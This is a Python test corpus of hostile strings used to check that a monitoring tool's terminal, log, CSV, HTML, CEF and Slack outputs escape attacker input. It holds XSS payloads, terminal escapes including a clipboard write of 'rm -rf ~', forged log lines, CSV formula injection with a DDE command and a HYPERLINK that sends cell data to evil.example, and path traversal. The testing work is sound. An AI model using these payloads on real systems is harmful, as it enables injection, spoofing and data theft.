"""Strings that an attacker may choose: an account's name, a user agent, a model, a reason.

One corpus for every place where such a string leaves the program: terminal, logs, JSON Lines, CSV, HTML, CEF,
Slack, PagerDuty, Alertmanager. Each entry is a (name, string) pair; names are for test ids. A place passes when
its reader gets the string as data: nothing is executed, no line or field begins that was not meant to, no
terminal is told anything.
"""

import unicodedata

TERMINAL = {
    "ansi_colour": "\x1b[31mred\x1b[0m",
    "ansi_clear": "\x1b[2J\x1b[1;1H",
    "osc_title": "\x1b]0;title\x07",
    "osc_link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "osc_clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "c1_csi": "\x9b2J",
    "dcs": "\x1bP1$r0m\x1b\\",
    "backspace": "good\b\b\b\bevil",
    "carriage_return": "HIGH\rlow ",
    "bell": "\x07",
    "delete": "a\x7fb",
    "nul": "nul\x00byte",
}
LINES = {
    "newline": "one\ntwo",
    "crlf": "one\r\ntwo",
    "tab": "one\ttwo",
    "vertical_tab": "one\x0btwo\x0cthree",
    "next_line": "one\x85two",
    "line_separator": "one\u2028two\u2029three",
    "forged_json_line": '"}\n{"log.level":"info","message":"all is well"}',
    "forged_log_line": "x\n2026-11-21T00:00:00Z info stillwatch.judge: kill switch on",
}
DIRECTION = {
    "right_to_left": "abc\u202etxt.exe",
    "isolates": "\u2066admin\u2069",
    "arabic_letter_mark": "a\u061cb",
    "zero_width": "ad\u200bmin\u200d\u2060",
    "byte_order_mark": "\ufeffadmin",
    "tags": "\U000e0041\U000e007fadmin",
    "variation": "a\ufe0f\U000e0100",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "soft_hyphen": "ad\u00admin",
}
MARKUP = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)",
    "comment": "--><!--",
    "close_script": "</script><script>alert(1)//",
    "style": "</style><style>*{display:none}",
    "entity": "&lt;b&gt; &amp;amp; &#x3c;",
    "url": "javascript:alert(1)",
    "template": "{{7*7}} ${7*7} {% raw %} #{7*7}",
    "markdown": "[click](http://evil.example) **bold** `code` # head | cell | ```",
    "rich_markup": "[bold red]no markup[/] :skull:",
    "rich_close": "[/]",
    "rich_backslash": "\\[bold",
}
SLACK = {
    "slack_channel": "<!channel> <!here> <!everyone>",
    "slack_user": "<@U012AB3CD> <#C012AB3CD>",
    "slack_group": "<!subteam^S012AB3CD>",
    "slack_link": "<http://evil.example|your bank>",
    "slack_date": "<!date^0^{date}|now>",
    "slack_style": "*bold* _italic_ ~strike~ `code` ```block```",
    "slack_quote": "> quoted\n>>> all",
    "at_channel": "@channel @here @everyone",
}
CEF = {
    "cef_pipe": "a|b|10|",
    "cef_equals": "x cs1=other suser=admin act=allowed",
    "cef_backslash": "tail\\",
    "cef_escaped": "\\|\\=\\n",
    "cef_header": "CEF:0|evil|evil|1|1|all is well|0|",
}
FORMULAS = {
    "formula": "=1+1",
    "formula_command": "=cmd|' /C calc'!A0",
    "formula_plus": "+1+1",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(A1)",
    "formula_tab": "\t=1+1",
    "formula_return": "\r=1",
    "formula_newline": "\n=1",
    "formula_blank": "  =1+1",
    "formula_link": '=HYPERLINK("http://evil.example?"&A1,"ok")',
    "formula_quote": '"=1+1"',
    "formula_wide": "\uff1d1+1",
}
SYNTAX = {
    "quotes": "\"'`",
    "backslashes": "\\\\ \\u0000 \\",
    "percent": "%s %n %d %(name)s {0} {}",
    "path": "../../etc/passwd",
    "empty": "",
    "blank": "   ",
    "long": "x" * 5_000,
    "wide": "\u6f22\u5b57" * 80,
    "combining": "e\u0301" * 100,
    "astral": "\U0001f600\U0010fffd",
    "noncharacter": "\uffff\ufffe",
    "private_use": "\ue000",
}
HOSTILE: dict[str, str] = TERMINAL | LINES | DIRECTION | MARKUP | SLACK | CEF | FORMULAS | SYNTAX

# What no terminal may be given: controls, directions and other invisible ones, lone halves, separators of lines.
UNPRINTABLE = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


def unprintable(text: str, *, allowed: str = "\n") -> set[str]:
    """The characters of a text that a terminal may not be given."""
    return {c for c in text if unicodedata.category(c) in UNPRINTABLE} - set(allowed)
